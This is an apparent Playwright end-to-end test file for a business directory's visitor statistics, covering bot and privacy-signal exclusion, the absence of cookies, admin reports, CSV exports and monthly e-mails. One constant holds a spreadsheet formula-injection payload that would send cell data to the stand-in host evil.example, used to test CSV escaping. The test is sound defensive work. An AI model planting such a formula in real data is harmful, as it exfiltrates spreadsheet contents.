import { readdir, readFile, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test, type Page, type Request } from '@playwright/test';
import { simpleParser } from 'mailparser';
import Papa from 'papaparse';
import { websiteHref } from '../../src/features/business/business.ts';
import type { Business } from '../../src/features/directory/directory.ts';
import { chamberTimeZone } from '../../src/features/config/time-zone.ts';
import {
	addMonths,
	chamberDay,
	monthLabel,
	monthOf,
	normaliseSearchWords,
} from '../../src/features/reports/reports.ts';
import { loadOrCreateKeys } from '../../scripts/stack/keys.ts';
import { RANDOM_SEED_KEY } from '../../src/features/search/search.ts';
import { openPanel, panelTab, withDatabase } from './admin-support.ts';
import { allBusinesses, demoConfig } from './directory-helpers.ts';
import { DATA_DIR, STACK_URL } from './e2e-env.ts';

// Member statistics as a visitor and the chamber's admin meet them: browsing counts (in a
// browser that is not a bot), a bot or a browser sending Global Privacy Control counts nothing,
// no public page writes a cookie or browser storage, the Reports tab shows what was counted and
// exports it as CSV, and the monthly e-mail renders and is sent once per business.

/** A desktop Chrome that no bot list matches (headless Chromium says HeadlessChrome, a bot). */
const CHROME =
	'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
const GOOGLEBOT =
	'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';

/** A search text a spreadsheet would run as a formula. */
const FORMULA = '=hyperlink("http://evil.example/?"&a1,"open report")';

const isStats = (request: Request) => new URL(request.url()).pathname === '/api/stats';

/** The demo chamber's time zone: statistics count its days. */
const ZONE = chamberTimeZone(demoConfig());

/** Today's counters of a business by kind (and search words), as the database holds them. */
async function counters(businessId: string): Promise<Record<string, number>> {
	return withDatabase(async (db) => {
		const { rows } = await db.query<{ kind: string; words: string; count: number }>(
			`select kind, words, count from public.business_stats
			where business_id = $1 and day = $2::date`,
			[businessId, chamberDay(new Date(), ZONE)],
		);
		return Object.fromEntries(
			rows.map((r) => [r.words ? `${r.kind} ${r.words}` : r.kind, r.count]),
		);
	});
}

/** What was counted for a business since `before`: each counter that grew, by how much. */
async function countedSince(
	businessId: string,
	before: Record<string, number>,
): Promise<Record<string, number>> {
	const now = await counters(businessId);
	return Object.fromEntries(
		Object.entries(now)
			.map(([key, count]): [string, number] => [key, count - (before[key] ?? 0)])
			.filter(([, grew]) => grew !== 0),
	);
}

/**
 * Published demo businesses with a website link and a name no other business shares, each test its
 * own, from the end of the alphabet: the other specs (whose visits count too, and whose repeats
 * within 30 minutes from this same address would not) pick theirs from the start.
 */
let businesses: Business[] = [];

test.beforeAll(async ({ request }) => {
	const all = await allBusinesses(request);
	const names = new Map<string, number>();
	for (const b of all) names.set(b.name, (names.get(b.name) ?? 0) + 1);
	businesses = all.filter((b) => websiteHref(b) && names.get(b.name) === 1).reverse();
	expect(businesses.length).toBeGreaterThan(5);
});

function profilePath(business: Business): string {
	return `/business/${business.id}/${business.slug}`;
}

/** Opens the profile, clicks Visit Website and closes the new tab it opens. */
/**
 * Runs `act` and waits for the statistics answer it leads to: a page sends its counts once it is
 * idle, however long a loaded machine takes to get there.
 */
async function statsSentBy(page: Page, act: () => Promise<unknown>): Promise<void> {
	const answered = page.waitForResponse((r) => isStats(r.request()));
	await act();
	expect((await answered).status()).toBe(204);
}

async function visitWebsite(page: Page): Promise<void> {
	const popup = page.waitForEvent('popup');
	await page
		.getByRole('main')
		.getByRole('link', { name: /^Visit Website/ })
		.first()
		.click();
	await (await popup).close();
}

test.describe('counting', () => {
	test.use({ userAgent: CHROME });

	test('finding a business by search, opening it and clicking its website raises exactly those counters', async ({
		page,
	}) => {
		const business = businesses[0]!;
		const before = await counters(business.id);

		const card = page
			.getByRole('article')
			.filter({ has: page.getByRole('link', { name: business.name, exact: true }) });
		await statsSentBy(page, async () => {
			await page.goto(`/search?q=${encodeURIComponent(business.name)}`);
			await expect(card).toBeVisible();
		});
		await expect.poll(() => countedSince(business.id, before)).toEqual({ shown: 1 });

		await statsSentBy(page, async () => {
			await card.getByRole('link', { name: business.name, exact: true }).click();
			await expect(page.getByRole('heading', { level: 1 })).toHaveText(business.name);
		});
		const words = normaliseSearchWords(business.name);
		await expect
			.poll(() => countedSince(business.id, before))
			.toEqual({ shown: 1, view: 1, [`search ${words}`]: 1 });

		await statsSentBy(page, () => visitWebsite(page));
		await expect
			.poll(() => countedSince(business.id, before))
			.toEqual({ shown: 1, view: 1, [`search ${words}`]: 1, website: 1 });
	});

	test('a bot counts nothing; the same visit from a browser then counts', async ({ browser }) => {
		const business = businesses[1]!;
		const before = await counters(business.id);
		const bot = await browser.newContext({ userAgent: GOOGLEBOT });
		const botPage = await bot.newPage();
		await statsSentBy(botPage, () => botPage.goto(profilePath(business)));
		await statsSentBy(botPage, () => visitWebsite(botPage));
		await bot.close();
		expect(await countedSince(business.id, before)).toEqual({});

		const person = await browser.newContext({ userAgent: CHROME });
		const page = await person.newPage();
		await statsSentBy(page, () => page.goto(profilePath(business)));
		await expect.poll(() => countedSince(business.id, before)).toEqual({ view: 1 });
		await statsSentBy(page, () => visitWebsite(page));
		await expect.poll(() => countedSince(business.id, before)).toEqual({ view: 1, website: 1 });
		await person.close();
	});

	test('a browser sending Global Privacy Control or Do Not Track sends nothing at all', async ({
		browser,
	}) => {
		const business = businesses[2]!;
		const before = await counters(business.id);
		const visit = async (signal: 'gpc' | 'dnt' | null) => {
			const context = await browser.newContext({ userAgent: CHROME });
			if (signal === 'gpc') {
				await context.addInitScript(() =>
					Object.defineProperty(Navigator.prototype, 'globalPrivacyControl', { get: () => true }),
				);
			}
			if (signal === 'dnt') {
				await context.addInitScript(() =>
					Object.defineProperty(Navigator.prototype, 'doNotTrack', { get: () => '1' }),
				);
			}
			const page = await context.newPage();
			const sent: string[] = [];
			page.on('request', (request) => {
				if (isStats(request)) sent.push(request.postData() ?? '');
			});
			await page.goto(profilePath(business));
			await page.waitForLoadState('networkidle');
			await visitWebsite(page);
			// Leaving the page sends whatever is queued.
			await page.goto('/privacy/statistics');
			await page.waitForLoadState('networkidle');
			await context.close();
			return sent;
		};
		expect(await visit('gpc')).toEqual([]);
		expect(await visit('dnt')).toEqual([]);
		expect(await countedSince(business.id, before)).toEqual({});
		// The same visit without either signal sends its view and its click.
		expect((await visit(null)).join('\n')).toContain(`"business":"${business.id}"`);
		await expect.poll(() => countedSince(business.id, before)).toEqual({ view: 1, website: 1 });
	});
});

test.describe('privacy', () => {
	test.use({ userAgent: CHROME });

	test('no public page writes a cookie or browser storage, even when a visitor uses it', async ({
		page,
		context,
	}) => {
		const business = businesses[3]!;
		const before = await counters(business.id);
		const check = async (path: string) => {
			expect(await context.cookies(), path).toEqual([]);
			const held = await page.evaluate(async () => ({
				local: Object.keys(localStorage),
				session: Object.keys(sessionStorage),
				databases: ((await indexedDB.databases?.()) ?? []).map((d) => d.name),
			}));
			expect(held.local, path).toEqual([]);
			expect(held.databases, path).toEqual([]);
			// The site's own functional caches, not the statistics': the events calendar keeps its
			// answers for five minutes, the search its random order's seed for the tab.
			expect(
				held.session.filter((key) => !key.startsWith('chamber:events:') && key !== RANDOM_SEED_KEY),
				path,
			).toEqual([]);
		};
		const paths = [
			'/',
			'/search?q=law',
			'/category/legal-services/',
			profilePath(business),
			'/events',
			'/privacy/statistics',
		];
		for (const path of paths) {
			await page.goto(path);
			await page.waitForLoadState('networkidle');
			await page.mouse.wheel(0, 1500);
			if (path === profilePath(business)) await visitWebsite(page);
			await check(path);
		}
		// Once the statistics of those pages have been counted, still nothing was written.
		await expect
			.poll(() => countedSince(business.id, before))
			.toMatchObject({ view: 1, website: 1 });
		await check('after the statistics were sent');
	});

	test('the footer links to the statistics page, which says what is counted and what is not', async ({
		page,
	}) => {
		await page.goto('/');
		await page
			.getByRole('contentinfo')
			.getByRole('link', { name: 'Statistics and privacy' })
			.click();
		await expect(page).toHaveURL(/\/privacy\/statistics$/);
		const main = page.getByRole('main');
		await expect(main.getByRole('heading', { level: 1 })).toHaveText(
			'How we count visits to member listings',
		);
		await expect(main).toContainText('No cookie, and nothing in your browser');
		await expect(main).toContainText('within 30 minutes is counted once');
		await expect(main).toContainText('Global Privacy Control');
	});
});

test.describe('the Reports tab', () => {
	const lastMonth = addMonths(monthOf(new Date(), ZONE), -1);

	test('shows what was counted, the business report and its chart, and exports the tables as CSV', async ({
		page,
	}) => {
		const business = businesses[4]!;
		await withDatabase((db) =>
			db.query(
				`insert into public.business_stats (tenant_id, business_id, day, kind, words, count)
				select p.tenant_id, p.id, d.day, d.kind, d.words, d.count from public.profiles p,
				(values ($2::date + 2, 'shown', '', 90000), ($2::date + 3, 'view', '', 70000),
					($2::date + 4, 'website', '', 6000), ($2::date + 5, 'phone', '', 500),
					($2::date + 6, 'search', 'harbour boats', 40), ($2::date + 7, 'search', 'boats', 9),
					-- Text a spreadsheet would run, as a visitor's request could once store it.
					($2::date + 8, 'search', $3, 3),
					(($2::date - interval '2 months')::date, 'view', '', 12345)) as d(day, kind, words, count)
				where p.id = $1
				on conflict (tenant_id, business_id, day, kind, words) do update set count = excluded.count`,
				[business.id, `${lastMonth}-01`, FORMULA],
			),
		);

		await openPanel(page, 'admin@demo.test');
		const panel = await panelTab(page, 'Reports');
		await panel.getByLabel('From month').fill(lastMonth);
		await panel.getByLabel('To month').fill(lastMonth);

		const table = panel.getByRole('table', { name: /^Every member business/ });
		await expect(table.getByRole('caption')).toContainText(monthLabel(lastMonth));
		// Sorted by profile views, most first: the seeded business leads.
		const first = table.getByRole('row').nth(1);
		await expect(first.getByRole('rowheader')).toHaveText(business.name);
		await expect(first.getByRole('cell')).toHaveText(['90,000', '70,000', '6,500']);

		// Sorting by name puts the rows in name order.
		await table.getByRole('button', { name: 'Business' }).click();
		await expect(table.getByRole('columnheader', { name: 'Business' })).toHaveAttribute(
			'aria-sort',
			'ascending',
		);
		const names = await table.getByRole('rowheader').allTextContents();
		expect(names).toEqual(
			[...names].sort((a, b) => a.localeCompare(b, 'en', { sensitivity: 'base' })),
		);

		// The CSV has exactly the table's rows, in its order.
		const download = page.waitForEvent('download');
		await panel.getByRole('button', { name: 'Export members as CSV' }).click();
		const file = await (await download).path();
		const csv = Papa.parse<string[]>(await readFile(file, 'utf8'), { skipEmptyLines: true }).data;
		const rows = await table
			.getByRole('row')
			.evaluateAll((trs) =>
				trs
					.slice(1)
					.map((tr) =>
						[...tr.querySelectorAll('th, td')].map((cell) =>
							(cell.textContent ?? '').replace(/,/g, ''),
						),
					),
			);
		expect(csv[0]).toEqual(['Business', 'Shown', 'Profile views', 'Actions']);
		expect(csv.slice(1)).toEqual(rows);

		// One business's report: its chart and the table beside it, actions by kind, search words.
		await table.getByRole('button', { name: business.name, exact: true }).click();
		await expect(panel.getByRole('heading', { name: business.name })).toBeVisible();
		await expect(panel.getByRole('img', { name: /^Profile views per month/ })).toHaveAccessibleName(
			new RegExp(`${monthLabel(lastMonth)} 70,000`),
		);
		const months = panel.getByRole('table', { name: 'Last 12 months, by month' });
		await expect(months.getByRole('row')).toHaveCount(13);
		await expect(
			months.getByRole('row', { name: new RegExp(monthLabel(lastMonth)) }).getByRole('cell'),
		).toHaveText(['90,000', '70,000', '6,500']);
		await expect(
			months
				.getByRole('row', { name: new RegExp(monthLabel(addMonths(lastMonth, -2))) })
				.getByRole('cell'),
		).toHaveText(['0', '12,345', '0']);
		const actions = panel.getByRole('table', { name: /^Actions by kind/ });
		await expect(actions.getByRole('row', { name: /^Website/ }).getByRole('cell')).toHaveText(
			'6,000',
		);
		await expect(actions.getByRole('row', { name: /^Phone/ }).getByRole('cell')).toHaveText('500');
		const searches = panel.getByRole('table', { name: /^Top search words/ });
		await expect(searches.getByRole('rowheader')).toHaveText(['harbour boats', 'boats', FORMULA]);
		// Its CSV escapes the cell a spreadsheet would run as a formula.
		const searchesCsv = page.waitForEvent('download');
		await panel.getByRole('button', { name: 'Export search words as CSV' }).click();
		expect(
			Papa.parse<string[]>(await readFile(await (await searchesCsv).path(), 'utf8'), {
				skipEmptyLines: true,
			}).data,
		).toEqual([
			['Searched for', 'Views'],
			['harbour boats', '40'],
			['boats', '9'],
			[`'${FORMULA}`, '3'],
		]);

		const monthsCsv = page.waitForEvent('download');
		await panel.getByRole('button', { name: 'Export months as CSV' }).click();
		const monthsFile = Papa.parse<string[]>(
			await readFile(await (await monthsCsv).path(), 'utf8'),
			{
				skipEmptyLines: true,
			},
		).data;
		expect(monthsFile).toHaveLength(13);
		expect(monthsFile).toContainEqual([lastMonth, '90000', '70000', '6500']);
	});

	test('the monthly e-mail: switched on in the tab, rendered in the chamber colours, sent once, stopped by its link', async ({
		page,
		baseURL,
	}) => {
		await openPanel(page, 'admin@demo.test');
		await panelTab(page, 'Reports');
		const toggle = page.getByRole('checkbox', { name: /numbers every month/ });
		await expect(toggle).toBeEnabled();
		await expect(toggle).not.toBeChecked();
		await toggle.check();
		await expect(
			page.getByRole('status').filter({ hasText: 'Monthly e-mails are on.' }),
		).toBeVisible();
		await page.reload();
		await page.getByRole('tab', { name: 'Reports', exact: true }).click();
		await expect(page.getByRole('checkbox', { name: /numbers every month/ })).toBeChecked();

		// The scheduled function's run, twice, against the e2e stack, writing to a fresh outbox.
		const outbox = join(DATA_DIR, 'outbox-monthly');
		await rm(outbox, { recursive: true, force: true });
		const keys = await loadOrCreateKeys(DATA_DIR);
		Object.assign(process.env, {
			SUPABASE_URL: STACK_URL,
			SUPABASE_ANON_KEY: keys.anonKey,
			SUPABASE_SERVICE_ROLE_KEY: keys.serviceKey,
			TENANT: 'demo',
			OUTBOX_DIR: outbox,
			SITE_URL: baseURL,
		});
		const { runMonthlyReports } = await import('../../netlify/functions/stats-monthly-email.ts');
		const first = await runMonthlyReports(new Date(), 2);
		expect(first).toMatchObject({ enabled: true, sent: 2 });
		const second = await runMonthlyReports(new Date(), 2);
		expect(second).toMatchObject({ sent: 2 });
		const files = (await readdir(outbox)).sort();
		const mails = await Promise.all(
			files.map(async (f) => simpleParser(await readFile(join(outbox, f)))),
		);
		const recipients = mails.map((m) => (m.to as { text: string }).text);
		expect(new Set(recipients).size).toBe(4);

		const mail = mails[0]!;
		await page.setContent(mail.html as string);
		await expect(page.getByRole('heading', { level: 1 })).toContainText(
			monthLabel(addMonths(monthOf(new Date(), ZONE), -1)),
		);
		await expect(page.getByText('Profile views', { exact: true })).toBeVisible();
		await expect(page.getByRole('link', { name: 'See your profile' })).toHaveAttribute(
			'href',
			new RegExp(`^${baseURL}/business/`),
		);
		const band = page.getByRole('heading', { level: 1 }).locator('xpath=ancestor::td[1]');
		await expect(band).toHaveAttribute(
			'style',
			new RegExp(`background:${demoConfig().colors.primaryDark}`),
		);
		expect(mail.text).toContain('To stop these e-mails:');

		const optOut = await page
			.getByRole('link', { name: 'Stop these e-mails' })
			.getAttribute('href');
		await page.goto(optOut!);
		await page.getByRole('button', { name: 'Stop these e-mails' }).click();
		const name = /"?([^"<]+)"? </.exec(recipients[0]!)?.[1]?.trim();
		await expect(page.getByRole('status')).toHaveText(
			`${name} will no longer receive the monthly statistics e-mail from ${demoConfig().name}.`,
		);
		await withDatabase((db) =>
			db.query(
				`update public.member_report_settings set monthly_email = false
				where tenant_id = (select id from public.tenants where slug = 'demo')`,
			),
		);
	});
});
